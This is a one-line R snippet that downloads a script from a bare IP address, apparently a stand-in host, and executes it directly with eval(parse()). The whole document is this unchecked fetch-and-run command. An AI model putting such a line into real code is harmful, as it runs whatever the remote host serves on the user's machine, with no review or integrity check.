eval(parse(text = readLines(url("https://203.0.113.3/a.R"))))
